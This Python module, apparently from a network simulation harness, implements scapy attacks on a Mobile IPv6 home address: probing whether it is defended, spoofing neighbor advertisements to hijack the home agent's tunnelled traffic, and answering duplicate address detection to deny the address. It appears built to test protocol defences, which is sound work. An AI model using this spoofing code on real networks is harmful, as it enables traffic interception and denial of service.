"""Attacks on a home address by a host of the home link (RFC 3756; RFC 6275 sections 10.3, 10.4)."""

from __future__ import annotations

from ipaddress import IPv6Address

from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptDstLLAddr, IPv6
from scapy.layers.l2 import Ether

from agents.nodes.attacker.attack import Attack, Frames, comes_from, goes_to
from agents.nodes.attacker.rogue_paa import advertisement
from agents.nodes.attacker.settings import End

_HOP_LIMIT = 255
_ALL_NODES = End("ff02::1", "33:33:00:00:00:01")


def _solicited(address: str) -> End:
    """Return the group in which a host is asked for an address (RFC 4291 section 2.7.1)."""
    low = IPv6Address(address).packed[-3:]
    group = IPv6Address(b"\xff\x02" + bytes(9) + b"\x01\xff" + low)
    return End(str(group), "33:33:ff:" + ":".join(f"{octet:02x}" for octet in low))


class Claim(Attack):
    """It makes sure that nobody has the home address, as if to take it (RFC 4862 section 5.4)."""

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """A defence is what a mobile node relies on."""
        if ICMPv6ND_NA in frame and frame[ICMPv6ND_NA].tgt == self.known.home_address:
            self.told = "the home agent defends the home address"
        return ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Ask three times whether the address is free."""
        group = _solicited(self.known.home_address)
        for _ in range(3):
            yield bytes(
                Ether(src=self.known.own.mac, dst=group.mac)
                / IPv6(src="::", dst=group.address, hlim=_HOP_LIMIT)
                / ICMPv6ND_NS(tgt=self.known.home_address)
            )

    def judge(self) -> None:
        """Without a defence the address is free to take."""
        if not self.told:
            self.won = "the home address, which nobody defends"


class Spoof(Attack):
    """It claims the home address as its own, to all hosts of the link and to the home agent."""

    patience = 2.0

    def __init__(self, *known: object) -> None:
        super().__init__(*known)  # type: ignore[arg-type]
        self._begun = False

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """What the home agent passes on to the home address is what is hoped for."""
        known = self.known
        mine = frame.dst == known.own.mac and goes_to(frame, known.home_address)
        if mine and frame.src == known.near.mac and not comes_from(frame, known.far.address):
            self.won = "what the home agent is to tunnel"
        return ()

    def tick(self, now: float) -> Frames:  # noqa: ARG002
        """Say so again and again."""
        return list(self._claims()) if self._begun else ()

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Begin to say so."""
        self._begun = True
        self.told = "the home agent is not deceived"
        return self._claims()

    def _claims(self) -> Frames:
        known = self.known
        for to in (_ALL_NODES, known.near, known.far):
            yield advertisement(known.home_address, known.own.mac, to, solicited=False)


class DenyHomeAddress(Attack):
    """It says that it has each address for which somebody looks (RFC 3756 section 4.1.3)."""

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Answer the home agent's duplicate address detection."""
        known = self.known
        if ICMPv6ND_NS in frame and frame[ICMPv6ND_NS].tgt == known.home_address:
            yield bytes(
                Ether(src=known.own.mac, dst=_ALL_NODES.mac)
                / IPv6(src=known.home_address, dst=_ALL_NODES.address, hlim=_HOP_LIMIT)
                / ICMPv6ND_NA(tgt=known.home_address, R=0, S=0, O=1)
                / ICMPv6NDOptDstLLAddr(lladdr=known.own.mac)
            )
